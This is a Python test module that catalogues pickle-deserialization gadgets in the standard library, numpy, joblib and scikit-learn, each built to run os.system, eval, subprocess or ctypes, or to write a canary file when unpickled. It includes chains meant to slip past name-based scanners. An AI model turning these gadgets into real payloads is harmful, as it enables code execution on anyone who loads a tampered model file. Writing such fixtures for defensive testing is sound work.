"""Callables that lie around in every Python, numpy, joblib and scikit-learn, and touch a file when unpickled.

Each is a tree for tests/attacks/assemble.py: what a class with a malicious `__reduce__` would have written.
Nothing here calls them.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import numpy as np

from tests.attacks.assemble import Call, Global, Instance, joblib_dump


def call(module: str, name: str, *args: Any) -> Call:
    return Call(Global(module, name), args)


OS = call("importlib", "import_module", "os")
SYSTEM = Global("os", "system")
SEQUENTIAL = call("joblib._parallel_backends", "SequentialBackend")


def standard_library(canary: Path) -> dict[str, Any]:
    """Gadgets that need nothing but Python; `pickle.loads` runs them."""
    path, command, statement = str(canary), f"touch {canary}", f"open({str(canary)!r}, 'w').close()"
    return {
        "os.system": call("os", "system", command),
        "posix.system": call("posix", "system", command),
        "eval": call("builtins", "eval", statement),
        "exec": call("builtins", "exec", statement),
        "open": call("builtins", "open", path, "w"),
        "io.open": call("io", "open", path, "w"),
        "os.mkdir": call("os", "mkdir", path),
        "os.open": call("os", "open", path, 64),
        "subprocess.call": call("subprocess", "call", ["touch", path]),
        "subprocess.getoutput": call("subprocess", "getoutput", command),
        "shutil.copyfile": call("shutil", "copyfile", "/dev/null", path),
        "Path.touch": Call(Global("pathlib", "Path.touch"), (call("pathlib", "Path", path),)),
        "logging.FileHandler": call("logging", "FileHandler", path),
        "tarfile.open": call("tarfile", "open", path, "w"),
        "runpy": call("runpy", "_run_code", statement, {}),
        "timeit": call("timeit", "timeit", "pass", statement),
        "cProfile.run": call("cProfile", "run", statement),
        "runsource": Call(
            Global("code", "InteractiveInterpreter.runsource"), (call("code", "InteractiveInterpreter"), statement)
        ),
        "atexit": call("atexit", "register", SYSTEM, command),
        "pickle.loads": call("pickle", "loads", joblib_dump(call("os", "system", command))),
        # chains: no single name gives them away
        "getattr": Call(call("builtins", "getattr", OS, "system"), (command,)),
        "__import__": Call(call("builtins", "getattr", call("builtins", "__import__", "os"), "system"), (command,)),
        "resolve_name": Call(call("pkgutil", "resolve_name", "os:system"), (command,)),
        "pydoc.locate": Call(call("pydoc", "locate", "os.system"), (command,)),
        "methodcaller": Call(call("operator", "methodcaller", "system", command), (OS,)),
        "attrgetter": Call(Call(call("operator", "attrgetter", "system"), (OS,)), (command,)),
        "partial": Call(call("functools", "partial", SYSTEM, command), ()),
        "functools.reduce": call("functools", "reduce", Global("builtins", "open"), ["w"], path),
        "map": call("builtins", "list", call("builtins", "map", SYSTEM, [command])),
        "FunctionType": Call(
            call("types", "FunctionType", call("builtins", "compile", statement, "x", "exec"), {}), ()
        ),
        "ctypes": Call(call("builtins", "getattr", call("ctypes", "CDLL", None), "system"), (command.encode(),)),
        "copyreg": call(
            "copyreg", "__newobj__", Global("builtins", "tuple"), call("builtins", "map", SYSTEM, [command])
        ),
        # names with dots, through a module that looks harmless
        "dotted os": call("posixpath", "os.system", command),
        "dotted genericpath": call("json", "codecs.open", path, "w"),
    }


def third_party(canary: Path) -> dict[str, Any]:
    """Gadgets inside numpy, joblib and scikit-learn; `joblib.load` runs them."""
    path, command, statement = str(canary), f"touch {canary}", f"open({str(canary)!r}, 'w').close()"
    return {
        "numpy runstring": call("numpy.testing._private.utils", "runstring", statement, {}),
        "numpy myeval": call("numpy.f2py.crackfortran", "myeval", statement, {}, {}),
        "numpy savetxt": call("numpy", "savetxt", path, [1]),
        "numpy ndarray.tofile": Call(Global("numpy", "ndarray.tofile"), (np.zeros(1), path)),
        "numpy memmap": Instance(Global("numpy", "memmap"), None, (path, "u1", "w+", 0, (1,))),
        "numpy fromiter": call("numpy", "fromiter", call("builtins", "map", SYSTEM, [command]), "i4"),
        "numpy randomstate_ctor": call("numpy.random._pickle", "__randomstate_ctor", command, SYSTEM),
        "joblib dump": call("joblib.numpy_pickle", "dump", [1], path),
        "joblib dotted os": call("joblib.numpy_pickle", "os.system", command),
        "joblib mkdirp": call("joblib.disk", "mkdirp", path),
        "joblib BatchedCalls": Call(
            call("joblib.parallel", "BatchedCalls", [(SYSTEM, (command,), {})], (SEQUENTIAL, None)), ()
        ),
        "sklearn dotted numpy": call("sklearn.preprocessing._data", "np.savetxt", path, [1]),
        "sklearn FunctionTransformer": Call(
            Global("sklearn.preprocessing._function_transformer", "FunctionTransformer._transform"),
            (
                Instance(Global("sklearn.preprocessing._function_transformer", "FunctionTransformer"), {}),
                command,
                SYSTEM,
            ),
        ),
    }
